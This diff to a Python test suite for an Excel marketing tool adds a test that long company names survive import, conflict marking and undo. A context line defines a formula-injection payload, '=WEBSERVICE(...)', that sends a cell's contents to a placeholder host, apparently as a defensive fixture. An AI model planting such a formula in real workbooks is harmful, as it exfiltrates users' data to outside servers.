@@ -22,7 +22,7 @@ from smarketing_xl.cli.app import make
 from smarketing_xl.errors import WorkbookError
 from smarketing_xl.hosts import opened
 from smarketing_xl.schema import named_cells, tables
-from tests.hosts.excel.strict import ERRORS, StrictExcel, strict_excel
+from tests.hosts.excel.strict import ERRORS, ComError, StrictExcel, strict_excel
 from tests.hosts.file.valid import schema_faults
 from tests.ingest.whatsapp_chats import FORMATS
 
@@ -295,6 +295,27 @@ def test_a_workbook_that_only_a_cloud_has_is_filled(path: Path) -> None:
         assert "L900" in read.read_table(state.book, tables.LEADS)["lead_id"].tolist()
 
 
+def test_long_texts_are_written_where_excel_takes_none_in_an_array(path: Path) -> None:
+    def companies() -> list[str]:
+        found = read.read_table(state.book, tables.LEADS).set_index("lead_id")["company"]
+        return list(found[list(LONG)])
+
+    with strict_excel(path) as state:
+        leads, before = read.find_table(state.book, tables.LEADS), companies()
+        with pytest.raises(ComError, match="1004"):
+            leads.block(0, 0, 2, 1).value = [["a"], ["a" * 912]]
+        rows = [f"{lead},{text},{text}" for lead, text in LONG.items()]
+        source = path.with_name("long.csv")
+        source.write_text("\n".join(["Lead ID,Company,Owner", *rows, ""]))
+        actions.import_file(state.book, source, "leads")
+        assert companies() == list(LONG.values())
+        conflicts = read.raw_frame(read.find_table(state.book, tables.CONFLICTS))
+        assert set(LONG.values()) <= set(conflicts.to_numpy().ravel())  # each has an owner already
+        actions.undo(state.book)
+        assert companies() == before
+
+
+LONG = {"L0": "a" * 911, "L1": "b" * 912, "L2": "c" * 9_000, "L3": "d"}
 ATTACK = '=WEBSERVICE("http://example.com/?"&A1)'
 
 
